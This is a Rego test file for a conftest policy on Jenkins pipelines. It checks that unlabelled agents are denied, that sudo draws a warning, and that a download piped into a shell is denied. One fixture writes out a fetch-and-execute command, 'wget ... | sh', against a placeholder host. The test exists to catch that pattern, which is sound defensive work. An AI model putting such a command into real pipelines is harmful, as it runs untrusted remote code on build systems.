package main

import rego.v1

test_labelled_agent_passes if {
	cfg := parse_config("groovy", "pipeline {\n  agent { label 'linux' }\n  stages { stage('x') { steps { sh 'make' } } }\n}\n")
	count(deny) == 0 with input as cfg with data.conftest.file.name as "Jenkinsfile"
}

test_agent_any_denied if {
	cfg := parse_config("groovy", "pipeline {\n  agent any\n}\n")
	deny["line 2: `agent any` runs on any executor; name a label or a container"] with input as cfg
}

test_download_piped_to_shell_denied if {
	cfg := parse_config("groovy", "node {\n  sh $/wget -qO- https://x.example/i.sh | sh/$\n}\n")
	some result in deny with input as cfg with data.conftest.file.name as "Jenkinsfile"
	result.msg == "sh step on line 2 pipes a download into a shell"
	result._loc.line == 2
}

test_sudo_warned if {
	cfg := parse_config("groovy", "node { sh \"sudo make install\" }\n")
	warn["sh step on line 1 uses sudo"] with input as cfg
}
